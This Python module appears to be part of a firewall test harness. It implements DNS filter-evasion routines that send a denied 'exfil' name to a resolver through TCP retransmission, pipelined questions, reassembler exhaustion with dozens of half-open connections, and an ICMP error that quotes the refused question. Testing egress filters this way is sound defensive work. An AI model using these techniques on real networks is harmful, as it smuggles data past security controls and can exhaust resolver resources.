"""DNS attacks: questions that carry data (a denied name) to the trusted
resolver by ways a firewall judging question by question may miss."""

import re
import socket
import subprocess
import time

import dns_craft
from attacks_tls import hold_partial, release
from netio import ICMP, ICMPV6, UDP, icmp_message, ip_packet, kernel_tcp_exchange
from tcp_raw import RawTcp


def _tcp_answers(data):
    return [dns_craft.parse(m) for m in dns_craft.tcp_messages(data)]


def dig_tcp(ctx, name, sport):
    """`dig +tcp` from src#sport; returns status, time and whether it ended
    in a reset or a timeout."""
    cmd = ["dig", "+tcp", "+time=2", "+tries=1", "-b", "%s#%d" % (ctx.src, sport),
           "@" + ctx.resolver, name, "A"]
    t0 = time.monotonic()
    try:
        out = subprocess.run(cmd, capture_output=True, text=True, timeout=6, check=False)
        text = out.stdout + out.stderr
    except subprocess.TimeoutExpired:
        text = "timeout"
    status = re.search(r"status: (\w+)", text)
    return {"status": status.group(1) if status else None,
            "reset": "reset" in text.lower(), "timed_out": "timed out" in text or text == "timeout",
            "elapsed_ms": int((time.monotonic() - t0) * 1000),
            "summary": " ".join(l for l in text.splitlines() if l.startswith(";;") and
                                ("status" in l or "timed out" in l or "reset" in l
                                 or "refused" in l))[:300]}


def dns_tcp_retransmit(ctx):
    """`dig +tcp` for a denied name, then a raw connection that sends the
    question, waits for the firewall's answer, and sends the same bytes
    again (a TCP retransmission the firewall may take as old news)."""
    name = dns_craft.exfil_name(ctx.denied)
    dig_port = ctx.kport(0)
    conn = RawTcp(ctx.link(), ctx.src, ctx.resolver, ctx.rport(0), 53)
    report = ctx.report("dns-tcp-retransmit", [ctx.flow("tcp", dig_port, ctx.resolver, 53),
                                               ctx.flow("tcp", conn.sport, ctx.resolver, 53)])
    dig = dig_tcp(ctx, name, dig_port)
    frame = dns_craft.tcp_frame(dns_craft.query(name))
    raw = {}
    if conn.connect():
        conn.send_at(0, frame)
        conn.poll(1.0, until=lambda c: c.reset or len(c.server_data) > 0)
        raw["first"] = {"reset": conn.reset, "answers": _tcp_answers(bytes(conn.server_data)),
                        "server_acked": conn.acked}
        conn.reset = False
        seen = len(conn.server_data)
        conn.send_at(0, frame)
        conn.poll(1.5, until=lambda c: c.reset or len(c.server_data) > seen)
        raw["retransmission"] = {"reset": conn.reset, "server_acked": conn.acked,
                                 "answers": _tcp_answers(bytes(conn.server_data[seen:]))}
        conn.close()
    else:
        raw["error"] = "no SYN-ACK"
    report["sent"] = {"question": name, "how": "dig +tcp; raw question sent twice"}
    report["result"] = {"dig": dig, "raw": raw, "reset": dig["reset"],
                        "elapsed_ms": dig["elapsed_ms"]}
    return report


def _tcp_exchange(ctx, sport, payload, expect=1, wait=1.5):
    result, data = kernel_tcp_exchange(
        ctx.src, sport, ctx.resolver, 53, payload, timeout=wait, budget=wait, limit=1 << 20,
        done=lambda data: len(dns_craft.tcp_messages(data)) >= expect)
    result["answers"] = _tcp_answers(data)
    return result


def dns_tcp_pipelined(ctx):
    """Two questions in one TCP segment: an allowed name, then a denied one."""
    sport = ctx.kport(0)
    report = ctx.report("dns-tcp-pipelined", [ctx.flow("tcp", sport, ctx.resolver, 53)])
    name = dns_craft.exfil_name(ctx.denied)
    payload = (dns_craft.tcp_frame(dns_craft.query(ctx.allowed)) +
               dns_craft.tcp_frame(dns_craft.query(name)))
    report["sent"] = {"questions": [ctx.allowed, name], "bytes": len(payload)}
    report["result"] = _tcp_exchange(ctx, sport, payload, expect=2)
    return report


def dns_tcp_exhaustion(ctx):
    """Dozens of DNS-over-TCP connections that sent one byte of a length
    prefix (every reassembler busy), then a question for an exfil name."""
    socks, connected = hold_partial(ctx, ctx.resolver, 53, b"\x00", ctx.holders)
    sport = ctx.kport(0)
    report = ctx.report("dns-tcp-exhaustion", [ctx.flow("tcp", sport, ctx.resolver, 53)])
    name = dns_craft.exfil_name(ctx.denied)
    report["sent"] = {"holders": ctx.holders, "holders_connected": connected, "question": name}
    report["holders"] = [ctx.flow("tcp", ctx.kport(1), ctx.resolver, 53,
                                  last=ctx.kport(ctx.holders))]
    report["result"] = _tcp_exchange(ctx, sport, dns_craft.tcp_frame(dns_craft.query(name)))
    release(socks)
    return report


def dns_icmp_quote(ctx):
    """A UDP question for a denied name gets the firewall's forged REFUSED;
    the client then sends the resolver an ICMP port unreachable quoting that
    REFUSED (question and all): the name rides out inside an ICMP error."""
    link = ctx.link()
    sport = ctx.kport(0)
    name = dns_craft.exfil_name(ctx.denied)
    report = ctx.report("dns-icmp-quote", [
        {"proto": "icmp6" if ctx.v6 else "icmp", "src": ctx.src, "dst": ctx.resolver,
         "quote_sport": 53, "quote_dport": sport}])
    family = socket.AF_INET6 if ctx.v6 else socket.AF_INET
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.bind((ctx.src, sport))
    link.drain()
    s.sendto(dns_craft.query(name), (ctx.resolver, 53))
    reply = None
    for ip in link.receive(time.monotonic() + 1.5):
        if ip["proto"] == UDP and ip["src"] == ctx.resolver and len(ip["l4"]) >= 8 and \
                int.from_bytes(ip["l4"][2:4], "big") == sport:
            reply = ip
            break
    s.close()
    result = {"refusal": None}
    if reply is None:
        report["result"] = dict(result, error="no answer to the UDP question")
        return report
    result["refusal"] = dns_craft.parse(reply["l4"][8:])
    quote = reply["ip"][:1232 if ctx.v6 else 548]
    if ctx.v6:
        message = icmp_message(ctx.src, ctx.resolver, 1, 4, b"\x00" * 4 + quote)
        link.send(ip_packet(ctx.src, ctx.resolver, ICMPV6, message))
    else:
        message = icmp_message(ctx.src, ctx.resolver, 3, 3, b"\x00" * 4 + quote)
        link.send(ip_packet(ctx.src, ctx.resolver, ICMP, message))
    report["sent"] = {"question": name, "icmp": "port unreachable", "quoted_bytes": len(quote),
                      "quote_has_name": ctx.denied.split(".")[1].encode() in quote}
    report["result"] = result
    return report
